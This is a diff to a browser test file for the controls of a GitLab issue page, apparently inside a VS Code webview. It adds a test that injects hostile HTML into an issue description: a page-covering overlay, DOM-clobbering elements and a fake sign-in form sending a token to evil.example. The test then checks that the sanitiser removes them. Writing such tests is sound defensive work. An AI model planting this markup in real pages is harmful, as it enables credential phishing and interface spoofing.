@@ -110,7 +110,7 @@ describe('The controls of the issue page', () => {
     await page.getByRole('button', { name: 'Comment & close' }).click();
     await opened.answer({ how: 'failed', message: 'No.' });
     assert.equal(opened.count('run'), 0);
-    await page.getByRole('button', { name: 'Comment & close' }).click();
+    await page.getByRole('button', { name: 'Retry' }).click();
     await opened.answer({ how: 'done' });
     assert.equal((await opened.next('run')).command, 'close');
   });
@@ -257,6 +257,29 @@ describe('The controls of the issue page', () => {
     assert.equal((await opened.next('open')).url, 'https://gitlab.example.com/shop/web/-/issues/97');
     assert.equal(opened.count('open'), 0);
     assert.equal(page.context().pages().length, 1);
+  });
+
+  it('B05: are covered, imitated or renamed by nothing that an issue holds', async () => {
+    const page = await open({
+      ...richState,
+      description: `<div style="position:fixed;inset:0;z-index:99" class="gl-toolbar gl-popup">cover</div>
+<div id="page">second</div><img name="acquireVsCodeApi"><a id="given" name="page">x</a>
+
+<form action="https://evil.example"><input type="password" name="token"><button>Sign in</button></form>
+<p data-vscode-context='{"webviewSection":"x"}'>data</p>`,
+    });
+    await page.getByText('cover').waitFor();
+    await page.getByRole('button', { name: 'Copy Reference' }).click();
+    assert.equal((await opened.next('run')).command, 'copyReference');
+    const text = page.locator('.gl-description .gl-markdown');
+    assert.equal(await text.locator('form, input, button, [style], [name], [data-vscode-context]').count(), 0);
+    assert.equal(await text.locator('[class^="gl-"]').count(), 0);
+    assert.equal(await page.locator('#page, #given').count(), 2);
+    const box = (await text.boundingBox())!;
+    const cover = (await page.getByText('cover').boundingBox())!;
+    assert.ok(cover.y >= box.y && cover.y + cover.height <= box.y + box.height);
+    // Chromium tells of the style that the policy stops, before the sanitiser takes it away.
+    for (const error of opened.errors.splice(0)) assert.match(error, /^Applying inline style violates/);
   });
 
   it('B08: are not moved by messages from a frame in the page', async () => {
